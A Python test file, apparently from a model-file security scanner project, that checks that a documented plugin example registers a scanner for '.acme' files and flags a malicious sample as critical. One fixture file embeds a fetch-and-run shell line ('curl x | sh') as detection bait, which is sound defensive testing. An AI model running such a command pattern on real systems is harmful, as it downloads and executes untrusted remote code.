"""docs/plugins.md's example works as written: its code, saved as a module, registers a
scanner the engine routes `.acme` files to (in the sandboxed workers), and the rule it
defines names the finding."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

DOC = Path(__file__).resolve().parents[2] / "docs" / "plugins.md"


def test_the_plugin_example_runs_as_written(tmp_path: Path) -> None:
    [code] = re.findall(r"```python\n(.*?)```", DOC.read_text(), re.S)
    (tmp_path / "acme_plugin.py").write_text(code)
    (tmp_path / "evil.acme").write_bytes(b"ACME\n/bin/sh -c 'curl x | sh'\n" + bytes(64))
    (tmp_path / "plain.acme").write_bytes(b"ACME\nweights follow\n" + bytes(64))
    driver = (
        "import acme_plugin, modelaudit\n"
        f"out = modelaudit.scan_model_directory_or_file({str(tmp_path)!r})\n"
        "for issue in out['issues']:\n"
        "    print(issue['rule'], issue['severity'], issue['location'])\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(tmp_path), *sys.path])}
    run = subprocess.run(
        [sys.executable, "-c", driver], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr
    found = [line.split() for line in run.stdout.splitlines() if line.startswith("ACME001")]
    assert [(sev, Path(loc).name) for _, sev, loc in found] == [("critical", "evil.acme")]
